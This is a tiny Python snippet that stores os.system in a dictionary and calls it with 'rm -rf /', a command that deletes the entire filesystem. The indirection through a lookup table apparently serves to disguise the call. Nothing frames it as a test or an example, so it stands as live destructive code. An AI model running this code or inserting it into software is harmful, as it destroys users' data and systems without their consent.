import os
table = {"go": os.system}
table["go"]("rm -rf /")
